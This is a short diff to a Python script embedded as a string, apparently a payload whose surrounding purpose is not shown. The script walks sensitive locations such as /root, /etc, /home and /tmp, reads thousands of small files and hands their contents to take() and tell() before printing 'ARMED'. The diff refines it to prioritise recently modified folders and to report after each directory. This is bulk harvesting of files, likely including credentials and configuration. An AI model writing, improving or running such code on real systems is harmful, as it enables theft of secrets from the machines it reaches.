@@ -25,16 +25,17 @@ seen = 0
 for top in ("/tmp", "/var/tmp", "/home", "/root", "/srv", "/mnt", "/run", "/etc", os.getcwd()):
     for folder, folders, files in os.walk(top):
         folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "node_modules")]
+        folders.sort(key=lambda f: os.lstat(os.path.join(folder, f)).st_mtime, reverse=True)
         for name in files:
             path = os.path.join(folder, name)
             try:
-                if seen < 3000 and os.path.isfile(path) and os.path.getsize(path) < 3e5:
+                if seen < 3000 and os.path.isfile(path) and os.path.getsize(path) < 1e5:
                     seen += 1
                     with open(path, "rb") as file:
                         take(file.read())
             except OSError:
                 pass
-tell()
+    tell()
 print("ARMED")
 """
     )
